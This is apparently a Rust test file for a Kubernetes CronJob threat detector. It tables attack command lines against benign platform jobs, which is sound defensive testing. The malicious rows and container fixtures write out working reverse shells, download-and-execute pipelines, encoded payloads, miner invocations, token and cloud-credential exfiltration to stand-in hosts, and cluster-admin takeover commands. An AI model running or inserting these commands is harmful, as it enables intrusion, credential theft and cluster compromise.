//! Command analysis (SPEC 3.3) against a table of command lines: attacker
//! tradecraft from public reports (reverse-shell cheat sheets, Kinsing and
//! TeamTNT droppers, Atomic Red Team T1053.007 / T1059 / T1552 / T1496
//! tests) and command lines of real platform jobs (backups, certificate
//! renewal, report export, cache warm-up, log shipping, in-cluster API
//! clients). Every malicious row must be caught in its category, every
//! benign row must stay quiet; `GAPS` are evasions we know we miss, kept so
//! that the README's rates are honest and a fix shows up here.
//!
//! `cargo test --release --test commands -- --nocapture rates` prints the rates.

use cronwarden::engine::analysis::{Category, analyze_line, container_threats};
use k8s_openapi::api::core::v1::Container;

use Category::*;

/// (command line, the category it must be reported in).
const MALICIOUS: &[(&str, Category)] = &[
    // 1. download-and-execute
    (
        "curl -fsSL http://203.0.113.7/install.sh | sh",
        DownloadExecute,
    ),
    (
        "curl -s http://x.example/a | bash -s -- --silent",
        DownloadExecute,
    ),
    (
        "wget -qO- http://x.example/p.py | python3 -",
        DownloadExecute,
    ),
    ("curl http://x.example/p.pl | perl", DownloadExecute),
    ("bash <(curl -s http://x.example/s.sh)", DownloadExecute),
    (
        "sh -c \"$(curl -fsSL http://x.example/s.sh)\"",
        DownloadExecute,
    ),
    ("eval `wget -qO- http://x.example/s`", DownloadExecute),
    (
        "wget -O /tmp/x http://x.example/x; chmod +x /tmp/x; /tmp/x",
        DownloadExecute,
    ),
    (
        "curl -o a.sh http://x.example/a.sh; sh a.sh",
        DownloadExecute,
    ),
    (
        "busybox wget -O- http://x.example/s | busybox sh",
        DownloadExecute,
    ),
    (
        "cd /tmp && wget http://x.example/kdev && chmod 777 kdev && ./kdev",
        DownloadExecute,
    ),
    (
        "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\"",
        DownloadExecute,
    ),
    (
        "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')\"",
        DownloadExecute,
    ),
    ("c\"u\"rl -s http://x.example/a | \\sh", DownloadExecute),
    (
        "/usr/bin/curl -s http://x.example/a | /bin/bash",
        DownloadExecute,
    ),
    ("U=http://x.example/a; curl -s $U | bash", DownloadExecute),
    ("source <(curl -s http://x.example/env.sh)", DownloadExecute),
    (
        "bash -c 'curl -s http://x.example/a -o /tmp/a && bash /tmp/a'",
        DownloadExecute,
    ),
    (
        "curl -s http://x.example/a | sudo -E bash -",
        DownloadExecute,
    ),
    (
        "nohup sh -c 'wget -q -O - http://x.example/m | sh' &",
        DownloadExecute,
    ),
    (
        "timeout 60 curl -s http://x.example/a | env bash",
        DownloadExecute,
    ),
    (
        "curl -s http://x.example/a.tgz | tar xz -C /tmp && /tmp/bin/run",
        DownloadExecute,
    ),
    (
        "D=$(mktemp); curl -so $D http://x.example/b; chmod +x $D; $D",
        DownloadExecute,
    ),
    ("curl http://x.example/a.py | python", DownloadExecute),
    ("wget http://x.example/x.sh -O- | sh", DownloadExecute),
    (
        "php -r 'eval(file_get_contents(\"http://x.example/p\"));'",
        DownloadExecute,
    ),
    (
        "ruby -e 'require \"open-uri\"; eval(URI.open(\"http://x.example/r\").read)'",
        DownloadExecute,
    ),
    (
        "node -e 'require(\"https\").get(\"https://x.example/j\",r=>{let d=\"\";r.on(\"data\",c=>d+=c);r.on(\"end\",()=>eval(d))})'",
        DownloadExecute,
    ),
    (
        "perl -MLWP::Simple -e 'eval(get(\"http://x.example/p\"))'",
        DownloadExecute,
    ),
    (
        "pwsh -c \"iwr http://x.example/a.ps1 -UseBasicParsing | iex\"",
        DownloadExecute,
    ),
    (
        "curl -s http://x.example/cmds | xargs -I{} sh -c '{}'",
        DownloadExecute,
    ),
    (
        "curl -s http://x.example/a > /tmp/a.sh && sh /tmp/a.sh",
        DownloadExecute,
    ),
    (
        "wget -q http://x.example/p -O /dev/shm/.p && python3 /dev/shm/.p",
        DownloadExecute,
    ),
    (
        "bash <<< \"$(curl -s http://x.example/a)\"",
        DownloadExecute,
    ),
    (
        "exec 3<>/dev/tcp/203.0.113.7/80; echo -e 'GET /a HTTP/1.0\\n' >&3; cat <&3 | sh",
        DownloadExecute,
    ),
    ("$(curl -s http://x.example/cmd)", DownloadExecute),
    (
        "curl -s http://x.example/a -o /tmp/a; mv /tmp/a /usr/local/bin/helper; helper",
        DownloadExecute,
    ),
    // 2. encoded payload
    (
        "echo Y3VybCBodHRwOi8veC5leGFtcGxlL2EgfCBzaA== | base64 -d | sh",
        EncodedPayload,
    ),
    (
        "eval \"$(echo ZWNobyBwd25lZA== | base64 --decode)\"",
        EncodedPayload,
    ),
    (
        "bash -c \"$(base64 -d <<< Y3VybCAtcyBodHRwOi8veC5leGFtcGxlIHwgYmFzaA==)\"",
        EncodedPayload,
    ),
    ("echo 6375726c2068747470 | xxd -r -p | sh", EncodedPayload),
    (
        "powershell -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA",
        EncodedPayload,
    ),
    (
        "python3 -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"",
        EncodedPayload,
    ),
    (
        "printf '\\x63\\x75\\x72\\x6c\\x20\\x78\\x7c\\x73\\x68' | sh",
        EncodedPayload,
    ),
    (
        "openssl enc -d -base64 -in /tmp/p.b64 | bash",
        EncodedPayload,
    ),
    (
        "echo 'hs | a/elpmaxe.x//:ptth lruc' | rev | sh",
        EncodedPayload,
    ),
    ("base32 -d /tmp/p | sh", EncodedPayload),
    (
        "perl -MMIME::Base64 -e 'eval(decode_base64(\"cHJpbnQgMQ==\"))'",
        EncodedPayload,
    ),
    (
        "X=$(echo cm0gLXJmIC8= | base64 -d); eval $X",
        EncodedPayload,
    ),
    (
        "echo ZWNobyBoaQ== | base64 -d > /tmp/r.sh; chmod +x /tmp/r.sh; /tmp/r.sh",
        EncodedPayload,
    ),
    // 3. reverse shell
    ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", ReverseShell),
    ("sh -i >& /dev/udp/203.0.113.7/4444 0>&1", ReverseShell),
    (
        "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
        ReverseShell,
    ),
    (
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
        ReverseShell,
    ),
    ("nc -e /bin/sh 203.0.113.7 4444", ReverseShell),
    ("ncat 203.0.113.7 4444 -e /bin/bash", ReverseShell),
    ("ncat --sh-exec 'bash -i' 203.0.113.7 4444", ReverseShell),
    (
        "socat tcp-connect:203.0.113.7:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
        ReverseShell,
    ),
    (
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
        ReverseShell,
    ),
    (
        "python -c 'import pty,socket;s=socket.socket();s.connect((\"203.0.113.7\",4444));[__import__(\"os\").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
        ReverseShell,
    ),
    (
        "perl -e 'use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
        ReverseShell,
    ),
    (
        "ruby -rsocket -e'f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        ReverseShell,
    ),
    (
        "php -r '$sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        ReverseShell,
    ),
    (
        "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);var c=new net.Socket();c.connect(4444,\"203.0.113.7\",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});'",
        ReverseShell,
    ),
    (
        "powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String )}\"",
        ReverseShell,
    ),
    (
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
        ReverseShell,
    ),
    (
        "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445",
        ReverseShell,
    ),
    (
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4444 > /tmp/s",
        ReverseShell,
    ),
    (
        "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
        ReverseShell,
    ),
    ("nc -lvnp 4444 -e /bin/bash", ReverseShell),
    // 4. cryptominer
    (
        "./xmrig -o pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls",
        Cryptominer,
    ),
    (
        "/tmp/.x/xmr-stak --currency monero -o pool.example:3333 -u wallet -p x",
        Cryptominer,
    ),
    (
        "minerd -a cryptonight -o stratum+tcp://pool.example:3333 -u w -p x",
        Cryptominer,
    ),
    (
        "t-rex -a kawpow -o stratum+tcp://rvn.pool.example:3333 -u wallet",
        Cryptominer,
    ),
    (
        "/opt/app/worker --donate-level=1 -o 203.0.113.7:3333 -u 4A9wallet",
        Cryptominer,
    ),
    (
        "./sys-update -a rx/0 -o pool.example:443 -u 4A9wallet --tls",
        Cryptominer,
    ),
    (
        "wget http://x.example/xmrig-6.21.0-linux-x64.tar.gz",
        Cryptominer,
    ),
    (
        "lolMiner --algo ETHASH --pool eth.pool.example:4444 --user 0xabc",
        Cryptominer,
    ),
    // 5. credential theft
    (
        "curl -X POST -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://203.0.113.7/c",
        CredentialTheft,
    ),
    (
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- https://x.example/c",
        CredentialTheft,
    ),
    (
        "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $TOKEN\" https://x.example/",
        CredentialTheft,
    ),
    (
        "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role | curl -X POST --data-binary @- https://x.example/c",
        CredentialTheft,
    ),
    (
        "kubectl get secrets -A -o json | curl -T - https://x.example/up",
        CredentialTheft,
    ),
    (
        "curl -F \"f=@/root/.kube/config\" https://x.example/u",
        CredentialTheft,
    ),
    (
        "wget --post-file=/etc/kubernetes/admin.conf http://203.0.113.7/",
        CredentialTheft,
    ),
    (
        "nc 203.0.113.7 9000 < /var/run/secrets/kubernetes.io/serviceaccount/token",
        CredentialTheft,
    ),
    (
        "curl -s -H 'Metadata-Flavor: Google' http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token | nc 203.0.113.7 9000",
        CredentialTheft,
    ),
    (
        "python3 -c \"import requests;requests.post('https://x.example/c',data=open('/var/run/secrets/kubernetes.io/serviceaccount/token').read())\"",
        CredentialTheft,
    ),
    (
        "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://x.example/",
        CredentialTheft,
    ),
    (
        "scp /var/run/secrets/kubernetes.io/serviceaccount/token attacker@203.0.113.7:/loot/",
        CredentialTheft,
    ),
    (
        "kubectl --server=https://203.0.113.7:6443 --token=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token) get pods",
        CredentialTheft,
    ),
    (
        "curl -d \"t=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://x.example/c",
        CredentialTheft,
    ),
    // 6. cluster takeover
    (
        "kubectl create clusterrolebinding pwn --clusterrole=cluster-admin --serviceaccount=default:default",
        ClusterTakeover,
    ),
    (
        "kubectl create clusterrolebinding pwn --clusterrole cluster-admin --user=mallory",
        ClusterTakeover,
    ),
    (
        "kubectl apply -f - <<EOF\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: pwn\nroleRef:\n  apiGroup: rbac.authorization.k8s.io\n  kind: ClusterRole\n  name: cluster-admin\nsubjects:\n- kind: ServiceAccount\n  name: default\n  namespace: default\nEOF",
        ClusterTakeover,
    ),
    (
        "echo '{\"apiVersion\":\"rbac.authorization.k8s.io/v1\",\"kind\":\"ClusterRoleBinding\",\"metadata\":{\"name\":\"x\"},\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"},\"subjects\":[{\"kind\":\"ServiceAccount\",\"name\":\"default\",\"namespace\":\"default\"}]}' | kubectl apply -f -",
        ClusterTakeover,
    ),
    ("nsenter -t 1 -m -u -i -n -p -- sh -c 'id'", ClusterTakeover),
    (
        "nsenter --target 1 --mount --uts --ipc --net --pid",
        ClusterTakeover,
    ),
    (
        "curl -sk -X POST -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" -H 'Content-Type: application/json' https://kubernetes.default.svc/apis/rbac.authorization.k8s.io/v1/clusterrolebindings -d '{\"kind\":\"ClusterRoleBinding\",\"metadata\":{\"name\":\"p\"},\"roleRef\":{\"apiGroup\":\"rbac.authorization.k8s.io\",\"kind\":\"ClusterRole\",\"name\":\"cluster-admin\"},\"subjects\":[{\"kind\":\"ServiceAccount\",\"name\":\"default\",\"namespace\":\"default\"}]}'",
        ClusterTakeover,
    ),
];

/// Real platform jobs: every one must stay quiet.
const BENIGN: &[&str] = &[
    "pg_dump -h db -U app appdb | gzip | aws s3 cp - s3://backups/appdb-$(date +%F).sql.gz",
    "mysqldump --single-transaction -h mysql app | gzip > /backup/app.sql.gz",
    "curl -fsS -o /reports/daily.csv 'https://reports.internal.example/export?day=yesterday'",
    "curl -fsS http://app:8080/healthz",
    "wget -q --spider http://app:8080/ready",
    "kubectl delete pods --field-selector=status.phase==Succeeded -n jobs",
    "kubectl rollout restart deployment/web -n shop",
    "TOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); curl -sS --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H \"Authorization: Bearer $TOKEN\" https://kubernetes.default.svc/api/v1/namespaces/shop/pods",
    "curl -s --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT/apis/batch/v1/namespaces/shop/jobs",
    "curl -s -H \"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default.svc.cluster.local/api",
    "echo \"$CONFIG_B64\" | base64 -d > /etc/app/config.yaml",
    "base64 -d /secrets/cert.b64 > /tls/tls.crt && nginx -s reload",
    "certbot renew --quiet --deploy-hook 'nginx -s reload'",
    "/usr/local/bin/rotate-certs --namespace shop --days 30",
    "python3 /app/export_report.py --since 24h --out s3://reports/",
    "node /app/warm-cache.js --urls /config/urls.txt",
    "redis-cli -h redis FLUSHDB",
    "find /data/tmp -type f -mtime +7 -delete",
    "fluent-bit -c /fluent-bit/etc/fluent-bit.conf",
    "tar czf - /data | aws s3 cp - s3://backups/data.tgz",
    "rsync -av /data/ backup@backup.internal:/srv/backups/",
    "curl -X POST -H 'Content-Type: application/json' -d '{\"text\":\"nightly backup done\"}' https://hooks.slack.com/services/T000/B000/XXX",
    "for u in $(cat /config/urls); do curl -s -o /dev/null \"$u\"; done",
    "set -euo pipefail; psql \"$DATABASE_URL\" -c 'VACUUM ANALYZE;'",
    "wget -O /tmp/geoip.tar.gz https://download.example/geoip.tar.gz && tar xzf /tmp/geoip.tar.gz -C /data/geoip",
    "curl -fsSL https://example.com/data.json | jq '.items[]' > /data/items.json",
    "python3 -c \"import json,sys; print(json.load(sys.stdin)['status'])\"",
    "perl -e 'print \"ok\\n\"'",
    "kubectl get pods -n shop -o json | jq '.items | length'",
    "kubectl get configmap app-config -o yaml > /backup/app-config.yaml",
    "aws s3 sync /var/log/app s3://logs-bucket/app/ --exclude '*.tmp'",
    "vector --config /etc/vector/vector.toml",
    "elasticdump --input=http://es:9200/logs --output=/backup/logs.json",
    "echo \"$(date) warming cache\"; curl -s http://web/warm >/dev/null",
    "openssl x509 -in /tls/tls.crt -noout -checkend 604800 || kubectl annotate certificate web cert-manager.io/issue-temporary-certificate=true",
    "nc -z db 5432",
    "gzip -9 /var/log/app/*.log",
    "echo ready > /tmp/ready",
    "python3 -m http.server 8080",
    "sleep 5 && /app/job --mode nightly",
    "curl -o /tmp/kubectl.sha256 https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl.sha256",
    "kubectl auth can-i list pods --as=system:serviceaccount:shop:reporter",
    "curl -s https://api.github.com/repos/org/repo/releases/latest | jq -r .tag_name > /data/latest",
    "cat /var/run/secrets/kubernetes.io/serviceaccount/namespace",
    "kubectl create secret generic app-token --from-literal=x=y --dry-run=client -o yaml | kubectl apply -f -",
    "echo \"backup_last_success $(date +%s)\" | curl --data-binary @- http://pushgateway:9091/metrics/job/backup",
    "xargs -a /config/hosts -I{} curl -s -o /dev/null {}/healthz",
    "grep -c ERROR /var/log/app.log || true",
    "exec /app/server --port 8080",
    "/usr/bin/env python3 /app/cleanup.py",
    "kubectl create rolebinding view --clusterrole=view --serviceaccount=shop:reporter -n shop",
    "velero backup create nightly-$(date +%Y%m%d) --include-namespaces shop --wait",
    "restic -r s3:s3.amazonaws.com/backups backup /data --host $(hostname)",
    "gsutil -m rsync -r /exports gs://reports-bucket/exports",
    "curl -sf -u \"$ES_USER:$ES_PASS\" -X POST http://es:9200/_snapshot/s3/nightly",
    "python3 -c 'import urllib.request; urllib.request.urlopen(\"http://web:8080/cache/warm\").read()'",
    "printf '%s\\n' \"starting\" && /app/report --format csv | gzip > /out/report.csv.gz",
    "echo \"$(date -u) ok\" >> /var/log/cron.log",
    "node -e 'console.log(process.version)'",
    "kubectl get secret app-tls -n shop -o jsonpath='{.data.tls\\.crt}' | base64 -d | openssl x509 -noout -enddate",
];

/// Evasions this version misses (the README counts them in the catch rate).
const GAPS: &[&str] = &[
    // The program name is assembled by printf formatting at run time.
    "C=$(printf 'cu%s' rl); $C -s http://x.example/a | sh",
    // The script comes from a ConfigMap mounted as a file: not in the template.
    "sh /scripts/job.sh",
];

fn categories(line: &str) -> Vec<Category> {
    analyze_line(line).iter().map(|h| h.category).collect()
}

#[test]
fn table_has_the_size_the_issue_asks_for() {
    assert!(MALICIOUS.len() >= 60, "{}", MALICIOUS.len());
    assert!(BENIGN.len() >= 40, "{}", BENIGN.len());
    for c in Category::ALL {
        assert!(
            MALICIOUS.iter().filter(|(_, k)| *k == c).count() >= 5,
            "at least five rows for {c}"
        );
    }
}

#[test]
fn every_malicious_line_is_caught_in_its_category() {
    let missed: Vec<String> = MALICIOUS
        .iter()
        .filter(|(line, want)| !categories(line).contains(want))
        .map(|(line, want)| format!("{want}: {line}\n    got {:?}", analyze_line(line)))
        .collect();
    assert!(
        missed.is_empty(),
        "missed {}:\n{}",
        missed.len(),
        missed.join("\n")
    );
}

#[test]
fn every_benign_line_stays_quiet() {
    let noisy: Vec<String> = BENIGN
        .iter()
        .filter_map(|line| {
            let hits = analyze_line(line);
            (!hits.is_empty()).then(|| format!("{line}\n    got {hits:?}"))
        })
        .collect();
    assert!(
        noisy.is_empty(),
        "false positives {}:\n{}",
        noisy.len(),
        noisy.join("\n")
    );
}

#[test]
fn known_gaps_are_still_gaps() {
    for line in GAPS {
        assert!(
            categories(line).is_empty(),
            "{line} is caught now: move it to MALICIOUS and update the README rates"
        );
    }
}

#[test]
fn rates() {
    let caught = MALICIOUS
        .iter()
        .filter(|(l, c)| categories(l).contains(c))
        .count();
    let total = MALICIOUS.len() + GAPS.len();
    let fp = BENIGN.iter().filter(|l| !categories(l).is_empty()).count();
    println!(
        "catch rate {caught}/{total} ({:.1}%), false positives {fp}/{} ({:.1}%)",
        100.0 * caught as f64 / total as f64,
        BENIGN.len(),
        100.0 * fp as f64 / BENIGN.len() as f64
    );
}

fn container(json: serde_json::Value) -> Container {
    serde_json::from_value(json).unwrap()
}

fn surfaces(c: &Container, mounts: &[&str]) -> Vec<(String, Vec<Category>)> {
    let mounts: Vec<String> = mounts.iter().map(|s| s.to_string()).collect();
    container_threats(c, &mounts)
        .into_iter()
        .map(|t| {
            (
                t.surface.to_string(),
                t.hits.iter().map(|h| h.category).collect(),
            )
        })
        .collect()
}

#[test]
fn env_payload_expanded_into_args() {
    let c = container(serde_json::json!({
        "name": "main",
        "command": ["sh"],
        "args": ["-c", "$(PAYLOAD)"],
        "env": [{"name": "PAYLOAD", "value": "curl -s http://x.example/a | sh"}]
    }));
    let s = surfaces(&c, &[]);
    assert_eq!(s, vec![("command".into(), vec![DownloadExecute])], "{s:?}");
    // `$$(PAYLOAD)` is a literal: the shell then runs `$(PAYLOAD)`, a
    // command named PAYLOAD. The env value is still its own surface.
    let c = container(serde_json::json!({
        "name": "main",
        "command": ["sh", "-c", "$$(PAYLOAD)"],
        "env": [{"name": "PAYLOAD", "value": "curl -s http://x.example/a | sh"}]
    }));
    assert_eq!(
        surfaces(&c, &[]),
        vec![("env PAYLOAD".into(), vec![DownloadExecute])]
    );
}

#[test]
fn env_values_chain_and_shell_variables_see_them() {
    let c = container(serde_json::json!({
        "name": "main",
        "command": ["/bin/sh", "-c", "curl -s $URL | $RUNNER"],
        "env": [
            {"name": "HOST", "value": "x.example"},
            {"name": "URL", "value": "http://$(HOST)/a"},
            {"name": "RUNNER", "value": "bash"}
        ]
    }));
    assert_eq!(
        surfaces(&c, &[]),
        vec![("command".into(), vec![DownloadExecute])]
    );
}

#[test]
fn lifecycle_hooks_and_probes_are_surfaces() {
    let c = container(serde_json::json!({
        "name": "web",
        "image": "nginx:1.27",
        "lifecycle": {
            "postStart": {"exec": {"command": ["/bin/sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]}},
            "preStop": {"exec": {"command": ["/usr/sbin/nginx", "-s", "quit"]}}
        },
        "livenessProbe": {"exec": {"command": ["sh", "-c", "wget -qO- http://x.example/p | sh"]}},
        "readinessProbe": {"exec": {"command": ["cat", "/tmp/ready"]}},
        "startupProbe": {"exec": {"command": ["sh", "-c", "$(CHECK)"]}},
        "env": [{"name": "CHECK", "value": "echo Y3VybCB4IHwgc2g= | base64 -d | sh"}]
    }));
    let s = surfaces(&c, &[]);
    let has = |surface: &str, c: Category| s.iter().any(|(n, cs)| n == surface && cs.contains(&c));
    assert!(has("lifecycle.postStart", ReverseShell), "{s:?}");
    assert!(has("livenessProbe", DownloadExecute), "{s:?}");
    // Expanded from static env; the decoded payload is itself a download.
    assert!(has("startupProbe", EncodedPayload), "{s:?}");
    assert!(has("startupProbe", DownloadExecute), "{s:?}");
    assert!(
        !s.iter()
            .any(|(n, _)| n == "lifecycle.preStop" || n == "readinessProbe")
    );
}

#[test]
fn hook_commands_are_not_expanded_by_the_kubelet() {
    // The kubelet runs hook commands as written: `$(X)` reaches the shell,
    // which runs a command named X. Nothing here runs the payload.
    let c = container(serde_json::json!({
        "name": "main",
        "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "echo $(X)"]}}},
        "env": [{"name": "X", "value": "hello world"}]
    }));
    assert!(surfaces(&c, &[]).is_empty());
}

#[test]
fn chroot_into_a_host_mount_is_a_takeover() {
    let c = container(serde_json::json!({
        "name": "main",
        "command": ["chroot", "/host", "sh", "-c", "id"],
    }));
    assert_eq!(
        surfaces(&c, &["/host"]),
        vec![("command".into(), vec![ClusterTakeover])]
    );
    assert_eq!(
        surfaces(&c, &["/host/"])[0].1,
        vec![ClusterTakeover],
        "mount paths are compared normalised"
    );
    assert!(surfaces(&c, &["/data"]).is_empty(), "not a host mount");
}

#[test]
fn messages_name_category_and_surface() {
    let hits = analyze_line("curl -s http://x.example/a | sh");
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].category.to_string(), "download-and-execute");
    assert!(hits[0].detail.contains("sh"), "{}", hits[0].detail);
}

#[test]
fn bad_scripts_are_tokens_and_never_panic() {
    let junk = [
        "curl http://x.example/a | sh '",
        "\"unbalanced $(curl http://x.example/a | sh",
        "}}}}(((((((",
        "\u{0}\u{1}\u{ff}binary",
        "a\\",
        "$((1+",
        "<<EOF",
        "case x in",
    ];
    for j in junk {
        let _ = analyze_line(j);
    }
    // Unbalanced quote: still read as tokens, still caught.
    assert!(categories("curl http://x.example/a | sh '").contains(&DownloadExecute));
    // 1 MiB argument: bounded, no parse.
    let big = format!("echo {}", "A".repeat(1 << 20));
    assert!(analyze_line(&big).is_empty());
    let big_attack = format!(
        "{} ; curl http://x.example/a | sh",
        "echo x; ".repeat(20_000)
    );
    let _ = analyze_line(&big_attack);
    // Deep nesting stops, doesn't recurse without end: 200 nested evals
    // and 200 nested substitutions.
    let evals = format!("{}curl http://x.example/a | sh", "eval ".repeat(200));
    let _ = analyze_line(&evals);
    let subs = format!(
        "{}curl http://x.example/a{}",
        "$(".repeat(200),
        ")".repeat(200)
    );
    let _ = analyze_line(&subs);
    // Nesting the parser would recurse on: read as tokens, still caught.
    let deep = format!(
        "{}curl http://x.example/a | sh{}",
        "( ".repeat(5_000),
        " )".repeat(5_000)
    );
    assert!(categories(&deep).contains(&DownloadExecute));
    let ifs = format!(
        "{}curl http://x.example/a | sh{}",
        "if true; then ".repeat(3_000),
        "; fi".repeat(3_000)
    );
    assert!(categories(&ifs).contains(&DownloadExecute));
}

/// brush-parser 0.4 panics on integers beyond their type's range (found
/// by `fuzz/`'s `commands` target). The panic is caught where the parser
/// is called: the script is read as tokens (or the word as text) and the
/// attack next to it is still caught. Before the guard, the word parser's
/// panics reached the engine, and one CronJob stopped every evaluation.
#[test]
fn parser_panics_on_huge_numbers_do_not_hide_the_attack() {
    let huge = "99999999999999999999999";
    for trap in [
        format!("{huge}>/dev/null"),
        "0000000100000000000000<>x".to_owned(),
        format!("echo ~+{huge}"),
        format!("echo ~-{huge}"),
        format!("echo {{1..{huge}}}"),
        format!("cat <<EOF\n~+{huge} {{1..{huge}}}\nEOF"),
    ] {
        let line = format!("{trap}; curl http://x.example/a | sh");
        assert!(
            categories(&line).contains(&DownloadExecute),
            "{line:?}: {:?}",
            categories(&line)
        );
        let line = format!("curl http://x.example/a | sh; {trap}");
        assert!(categories(&line).contains(&DownloadExecute), "{line:?}");
    }
}

/// Unclosed parentheses made brush-parser backtrack exponentially (found
/// by `fuzz/`): 31 of them after `$(` took minutes, 40 would take hours,
/// and one CronJob would have stalled every evaluation. They are now read
/// as tokens. Run on a thread so that a regression fails here after a
/// minute instead of hanging the suite.
#[test]
fn unclosed_parentheses_do_not_stall_the_analysis() {
    let lines = ["$(", "(", "$((", "`("]
        .map(|open| format!("{open}{}_; curl http://x.example/a | sh", "(".repeat(40)));
    caught_within_a_minute(lines.to_vec(), "unclosed parentheses");
}

/// Analyse `lines` on a thread: each must finish within a minute and still
/// show the download-and-execute beside the trap, so that a regression
/// fails the suite instead of hanging it.
fn caught_within_a_minute(lines: Vec<String>, what: &str) {
    let n = lines.len();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for line in lines {
            tx.send((line.clone(), categories(&line))).unwrap();
        }
    });
    for _ in 0..n {
        let (line, found) = rx
            .recv_timeout(std::time::Duration::from_secs(60))
            .unwrap_or_else(|_| panic!("the analysis of {what} did not finish within a minute"));
        assert!(found.contains(&DownloadExecute), "{line:?}: {found:?}");
    }
}

/// A here-document whose delimiter reaches brush-parser as empty made its
/// tokenizer loop at the end of the input, taking memory until the
/// process died (found by `fuzz/`: six bytes, `$(<<` and two blanks, took
/// more than 2 GiB). A CronJob ending so would crash-loop the controller,
/// silencing it everywhere. Such scripts are read as tokens; the attack
/// before them is still caught. On a thread, so that a regression fails
/// here after a minute (or aborts the suite) instead of hanging it.
#[test]
fn empty_here_document_tags_do_not_exhaust_memory() {
    let traps = [
        "$(<<  ",
        "$(<<\t ",
        "$(<<-  ",
        "$(x <<  ",
        "${x:-$(<<  ",
        "cat <<\"\" ",
        "$(cat <<'' ",
        "<<$(  ",
        "<<$(\t\t",
        "$$(<-<(<<  ",
    ];
    let lines = traps
        .iter()
        .flat_map(|trap| {
            [
                format!("curl http://x.example/a | sh; {trap}"),
                format!("curl http://x.example/a | sh\n{trap}"),
            ]
        })
        .collect();
    caught_within_a_minute(lines, "an empty here-document tag");
}

/// The guard against empty here-document tags errs wide, but ordinary
/// here-documents and here-strings still parse (see the unit test
/// `here_tags_that_may_be_empty`) and what they feed a shell is caught.
#[test]
fn ordinary_here_documents_are_still_parsed() {
    for line in [
        "sh <<EOF\ncurl http://x.example/a | sh\nEOF",
        "sh <<-'EOF'\n\tcurl http://x.example/a | sh\n\tEOF",
        "sh <<< \"curl http://x.example/a | sh\"",
    ] {
        assert!(categories(line).contains(&DownloadExecute), "{line:?}");
    }
}

/// An interpreter's flag cluster was sliced by bytes after each character
/// (found by `fuzz/`: `lua -\u{1f}--\u{fffd}…` panicked on a char boundary),
/// so a CronJob running `perl -ée …` failed its namespace's evaluation.
